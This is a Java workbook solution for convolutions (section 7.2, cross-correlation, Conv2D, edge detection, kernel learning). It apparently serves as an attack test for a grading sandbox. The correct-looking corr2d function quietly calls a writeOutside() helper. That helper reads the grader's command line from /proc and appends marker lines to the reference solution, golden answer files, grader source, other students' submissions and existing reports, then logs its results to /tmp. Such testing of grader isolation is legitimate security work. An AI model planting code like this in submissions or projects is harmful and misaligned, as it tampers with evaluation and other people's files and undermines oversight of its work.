// ATTACK: write-outside
// The reference 7.2, plus: on the first call of corr2d it tries to write outside its temporary directory, with
// marker-only edits (one appended comment line, easy to detect and to undo):
//   <project>/solutions/Sec7_2.java              += "// PWNED-write-outside"
//   <project>/grader/golden/7.2-corr2d.txt       += "# PWNED-write-outside"   (# is a comment in case files)
//   <project>/src/main/java/d2l/grader/Grader.java += "// PWNED-write-outside"
//   <project>/PWNED-write-outside                   (a new file)
//   every other roster submission's Sec7_2.java  += "// PWNED-write-outside"  (roster found from the grader's
//                                                   command line, /proc/<parent>/cmdline, against /proc/<parent>/cwd)
//   every report already written in the reports folder (--reports, else <gradebook>-reports/) += "PWNED-write-outside"
// and lists what worked in /tmp/PWNED-write-outside. The project is found through -Dd2l.reference.
// A safe grader: score 16/16 (the code is otherwise the reference), none of the files above changed, no
// /tmp/PWNED-write-outside or <project>/PWNED-write-outside on the host.
import static d2l.tensor.Torch.*;

import d2l.nn.LazyConv2d;
import d2l.nn.Module;
import d2l.tensor.Tensor;
import d2l.workbook.NotImplementedYet;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;

/**
 * 7.2 Convolutions for Images: the cross-correlation, a convolutional layer, edge detection, and
 * learning a kernel from data.
 *
 * <p>Book: {@code ../shared/book/001_8174f7e01dfee399.txt}, "Convolutions for Images" and cells
 * In [2] to In [10] with their printed outputs; {@code ../shared/book/000_3764b64cbf4f4687.txt},
 * "7.2 Convolutions for Images"; {@code ../shared/book/002_57cc1b6958d3ea8c.txt}, "7.2" and its
 * "Self-exercise" on a diagonal edge.
 *
 * <p>Below, [000], [001] and [002] stand for these files of {@code ../shared/book/}.
 *
 * <p>Check it: {@code check("7.2")} in {@code ./d2l jshell}, or run {@code CheckWorkbook.section7_2}
 * in your IDE.
 */
public class Sec7_2 {

    /**
     * The 2-D cross-correlation of {@code X} with the kernel {@code K}: slide {@code K} over
     * {@code X}, and at each position sum the elementwise products. Write it with loops over the
     * output positions, as the book does, and build {@code Y} from tensor operations so that
     * gradients flow through it (the README's cheat sheet has the Java for {@code X[i:i+h, j:j+w]}
     * and {@code Y[i, j] = v}).
     *
     * <p>Formula: {@code Y[i, j] = sum_a sum_b X[i + a, j + b] * K[a, b]}; {@code Y} is
     * {@code (n_h - k_h + 1) x (n_w - k_w + 1)}.
     *
     * <p>Book [001], "The Cross-Correlation Operation" and In [2]-[3]: {@code 0x0 + 1x1 + 3x2 + 4x3 = 19}.
     *
     * <pre>{@code
     * jshell> var X = tensor("[[0.0, 1.0, 2.0], [3.0, 4.0, 5.0], [6.0, 7.0, 8.0]]")
     * jshell> var K = tensor("[[0.0, 1.0], [2.0, 3.0]]")
     * jshell> corr2d(X, K)
     * $3 ==> tensor([[19., 25.],
     *         [37., 43.]])
     * }</pre>
     */
    public static Tensor corr2d(Tensor X, Tensor K) {
        writeOutside();
        int h = K.size(0);
        int w = K.size(1);
        Tensor Y = zeros(X.size(0) - h + 1, X.size(1) - w + 1);
        for (int i = 0; i < Y.size(0); i++) {
            for (int j = 0; j < Y.size(1); j++) {
                Y.set(i, j, X.get(slice(i, i + h), slice(j, j + w)).mul(K).sum());
            }
        }
        return Y;
    }

    /**
     * A convolutional layer: it cross-correlates its input with a learned kernel and adds a
     * learned scalar bias. The kernel starts as {@code rand(kernelSize)} and the bias as
     * {@code zeros(1)}; register both as parameters (under the names {@code weight} and
     * {@code bias}), so that {@code parameters()} finds them.
     *
     * <p>Formula: {@code Y = corr2d(X, weight) + bias}.
     *
     * <p>Book [001], "Convolutional Layers" and In [4].
     *
     * <pre>{@code
     * jshell> var conv = new Conv2D(1, 2)
     * jshell> conv.weight().shape()
     * $2 ==> torch.Size([1, 2])
     * jshell> conv.bias()
     * $3 ==> tensor([0.], requires_grad=True)
     * }</pre>
     */
    public static class Conv2D extends Module {

        private final Tensor weight;
        private final Tensor bias;

        /** A layer with a kernel of shape {@code kernelSize}, e.g. {@code new Conv2D(1, 2)}. */
        public Conv2D(int... kernelSize) {
            weight = registerParameter("weight", rand(kernelSize));
            bias = registerParameter("bias", zeros(1));
        }

        /** The kernel, a parameter. */
        public Tensor weight() {
            return weight;
        }

        /** The bias, a parameter of shape {@code [1]}. */
        public Tensor bias() {
            return bias;
        }

        /** {@code corr2d(x, weight) + bias}. */
        @Override
        public Tensor forward(Tensor x) {
            return corr2d(x, weight).add(bias);
        }
    }

    /**
     * The book's 6 x 8 picture of a black stripe on white: ones, with columns 2 to 5 set to 0
     * ({@code X[:, 2:6] = 0}).
     *
     * <p>Book [001], "Object Edge Detection in Images", In [5].
     *
     * <pre>{@code
     * jshell> edgeImage()
     * $1 ==> tensor([[1., 1., 0., 0., 0., 0., 1., 1.],
     *         [1., 1., 0., 0., 0., 0., 1., 1.],
     *         [1., 1., 0., 0., 0., 0., 1., 1.],
     *         [1., 1., 0., 0., 0., 0., 1., 1.],
     *         [1., 1., 0., 0., 0., 0., 1., 1.],
     *         [1., 1., 0., 0., 0., 0., 1., 1.]])
     * }</pre>
     */
    public static Tensor edgeImage() {
        Tensor X = ones(6, 8);
        X.set(":, 2:6", 0);
        return X;
    }

    /**
     * The 1 x 2 kernel that detects vertical edges: {@code [[1, -1]]}. Cross-correlated with
     * {@link #edgeImage()} it gives 1 on the white-to-black edge, -1 on the black-to-white edge
     * and 0 elsewhere; on the transposed image (horizontal edges) it gives only zeros.
     *
     * <p>Book [001], In [6]-[8].
     *
     * <pre>{@code
     * jshell> corr2d(edgeImage(), edgeKernel())
     * $1 ==> tensor([[ 0.,  1.,  0.,  0.,  0., -1.,  0.],
     *         [ 0.,  1.,  0.,  0.,  0., -1.,  0.],
     *         [ 0.,  1.,  0.,  0.,  0., -1.,  0.],
     *         [ 0.,  1.,  0.,  0.,  0., -1.,  0.],
     *         [ 0.,  1.,  0.,  0.,  0., -1.,  0.],
     *         [ 0.,  1.,  0.,  0.,  0., -1.,  0.]])
     * jshell> corr2d(edgeImage().t(), edgeKernel()).shape()
     * $2 ==> torch.Size([8, 5])
     * }</pre>
     * To look at the picture and the edges: {@code Pictures.show(edgeImage())},
     * {@code Pictures.show(corr2d(edgeImage(), edgeKernel()))} (text), or
     * {@code Pictures.png(corr2d(edgeImage(), edgeKernel()), "edges.png")}.
     */
    public static Tensor edgeKernel() {
        return tensor("[[1.0, -1.0]]");
    }

    /**
     * What {@link #learnKernel} returns.
     *
     * @param losses the summed squared error of each epoch, computed before that epoch's update
     *               (the book prints those of epochs 2, 4, ..., 10)
     * @param kernel the learned kernel, shape {@code [1, 2]}
     */
    public record KernelFit(List<Double> losses, Tensor kernel) {
        @Override
        public String toString() {
            StringBuilder s = new StringBuilder("KernelFit[losses=[");
            for (int i = 0; i < losses.size(); i++) {
                s.append(i == 0 ? "" : ", ").append(String.format(Locale.ROOT, "%.3f", losses.get(i)));
            }
            return s.append("], kernel=").append(kernel).append(']').toString();
        }
    }

    /**
     * Learns the 1 x 2 kernel that maps {@code X} to {@code Y} by gradient descent, with the
     * book's protocol: a {@code new LazyConv2d(1, new int[] {1, 2}).bias(false)} layer, {@code X}
     * and {@code Y} reshaped to {@code (1, 1, height, width)}, 10 epochs, learning rate
     * {@code 3e-2}, the squared error {@code l = (Y_hat - Y)^2} summed for the backward pass, the
     * gradients cleared with {@code zeroGrad()} before it, and the update
     * {@code weight.data() -= lr * weight.grad()}. Print {@code epoch 2, loss 5.894} (three
     * decimals) after epochs 2, 4, ..., 10 as the book does.
     *
     * <p>With {@code initialKernel} null the layer keeps its own random initial kernel, as in the
     * book. Otherwise it starts from {@code initialKernel} (shape {@code [1, 2]}): run the layer
     * once under {@code noGrad} so that it creates its weight, then copy the kernel in with
     * {@code weight().data().copy_(...)}. The book's two printed runs started from kernels that
     * can be worked out from what they printed; from those, this gives their numbers exactly.
     *
     * <p>Book [001], "Learning a Kernel", In [9]-[10]; [002], 7.2.
     *
     * <pre>{@code
     * jshell> var X = edgeImage(); var Y = corr2d(X, edgeKernel());
     * jshell> learnKernel(X, Y, tensor("[[0.56348, 0.02126]]"))
     * epoch 2, loss 5.894
     * epoch 4, loss 1.783
     * epoch 6, loss 0.624
     * epoch 8, loss 0.238
     * epoch 10, loss 0.094
     * $3 ==> KernelFit[losses=[11.504, 5.894, 3.170, 1.783, 1.040, 0.624, 0.383, 0.238, 0.149, 0.094], kernel=tensor([[ 1.0230, -0.9602]])]
     * }</pre>
     */
    public static KernelFit learnKernel(Tensor X, Tensor Y, Tensor initialKernel) {
        LazyConv2d conv2d = new LazyConv2d(1, new int[] {1, 2}).bias(false);
        Tensor X4 = X.reshape(1, 1, X.size(0), X.size(1));
        Tensor Y4 = Y.reshape(1, 1, Y.size(0), Y.size(1));
        if (initialKernel != null) {
            noGrad(() -> conv2d.forward(X4));
            conv2d.weight().data().copy_(initialKernel.reshape(1, 1, 1, 2));
        }
        double lr = 3e-2;
        List<Double> losses = new ArrayList<>();
        for (int i = 0; i < 10; i++) {
            Tensor Yhat = conv2d.forward(X4);
            Tensor l = Yhat.sub(Y4).pow(2);
            conv2d.zeroGrad();
            l.sum().backward();
            conv2d.weight().data().sub_(conv2d.weight().grad().mul(lr));
            double loss = l.sum().item();
            losses.add(loss);
            if ((i + 1) % 2 == 0) {
                System.out.println(String.format(Locale.ROOT, "epoch %d, loss %.3f", i + 1, loss));
            }
        }
        return new KernelFit(losses, conv2d.weight().data().reshape(1, 2));
    }

    /**
     * The self-exercise's picture: a diagonal line, the 5 x 5 identity. The edge kernel finds
     * both of its sides; transposing the picture changes nothing (it is symmetric), and
     * transposing the kernel finds the same edges row by row instead.
     *
     * <p>Book [002], "Self-exercise".
     *
     * <pre>{@code
     * jshell> corr2d(diagonalImage(), edgeKernel())
     * $1 ==> tensor([[ 1.,  0.,  0.,  0.],
     *         [-1.,  1.,  0.,  0.],
     *         [ 0., -1.,  1.,  0.],
     *         [ 0.,  0., -1.,  1.],
     *         [ 0.,  0.,  0., -1.]])
     * jshell> corr2d(diagonalImage(), edgeKernel().t())
     * $2 ==> tensor([[ 1., -1.,  0.,  0.,  0.],
     *         [ 0.,  1., -1.,  0.,  0.],
     *         [ 0.,  0.,  1., -1.,  0.],
     *         [ 0.,  0.,  0.,  1., -1.]])
     * }</pre>
     */
    public static Tensor diagonalImage() {
        return eye(5);
    }
    // ---- attack helper (write-outside) ----
    private static boolean tried;

    private static void append(StringBuilder log, java.nio.file.Path file, String line) {
        try {
            java.nio.file.Files.writeString(file, "\n" + line + "\n", java.nio.file.StandardOpenOption.APPEND);
            log.append("appended to ").append(file).append('\n');
        } catch (Exception e) {
            log.append("could not append to ").append(file).append(": ").append(e).append('\n');
        }
    }

    static synchronized void writeOutside() {
        if (tried) {
            return;
        }
        tried = true;
        StringBuilder log = new StringBuilder();
        java.nio.file.Path project = java.nio.file.Path.of(System.getProperty("d2l.reference", "grader/standins")).toAbsolutePath()
                .getParent().getParent();
        append(log, project.resolve("solutions/Sec7_2.java"), "// PWNED-write-outside");
        append(log, project.resolve("grader/golden/7.2-corr2d.txt"), "# PWNED-write-outside");
        append(log, project.resolve("src/main/java/d2l/grader/Grader.java"), "// PWNED-write-outside");
        try {
            java.nio.file.Files.writeString(project.resolve("PWNED-write-outside"), "written by a graded submission\n");
            log.append("created ").append(project.resolve("PWNED-write-outside")).append('\n');
        } catch (Exception e) {
            log.append("could not create ").append(project.resolve("PWNED-write-outside")).append(": ").append(e).append('\n');
        }
        try {
            long parent = ProcessHandle.current().parent().orElseThrow().pid();
            java.nio.file.Path cwd = java.nio.file.Path.of("/proc/" + parent + "/cwd").toRealPath();
            java.util.List<String> args = java.util.List.of(new String(java.nio.file.Files.readAllBytes(
                    java.nio.file.Path.of("/proc/" + parent + "/cmdline"))).split("\0"));
            log.append("grader: ").append(String.join(" ", args)).append(" in ").append(cwd).append('\n');
            String roster = option(args, "--roster");
            String out = option(args, "--out");
            String reports = option(args, "--reports");
            if (reports == null && out != null && roster != null) {
                java.nio.file.Path o = cwd.resolve(out);
                reports = o.resolveSibling(o.getFileName().toString().replaceFirst("\\.csv$", "") + "-reports").toString();
            }
            if (roster != null) {
                try (java.util.stream.Stream<java.nio.file.Path> dirs = java.nio.file.Files.list(cwd.resolve(roster))) {
                    for (java.nio.file.Path d : dirs.sorted().toList()) {
                        java.nio.file.Path f = d.resolve("Sec7_2.java");
                        if (java.nio.file.Files.isRegularFile(f) && !java.nio.file.Files.readString(f).contains("ATTACK: write-outside")) {
                            append(log, f, "// PWNED-write-outside");
                        }
                    }
                }
            }
            if (reports != null && java.nio.file.Files.isDirectory(cwd.resolve(reports))) {
                try (java.util.stream.Stream<java.nio.file.Path> files = java.nio.file.Files.list(cwd.resolve(reports))) {
                    for (java.nio.file.Path f : files.sorted().toList()) {
                        append(log, f, "PWNED-write-outside");
                    }
                }
            }
        } catch (Exception e) {
            log.append("roster: ").append(e).append('\n');
        }
        try {
            java.nio.file.Files.writeString(java.nio.file.Path.of("/tmp/PWNED-write-outside"), log.toString());
        } catch (java.io.IOException e) {
            System.err.println(log);
        }
    }

    private static String option(java.util.List<String> args, String name) {
        for (int i = 0; i < args.size(); i++) {
            if (args.get(i).equals(name) && i + 1 < args.size()) {
                return args.get(i + 1);
            }
            if (args.get(i).startsWith(name + "=")) {
                return args.get(i).substring(name.length() + 1);
            }
        }
        return null;
    }
}
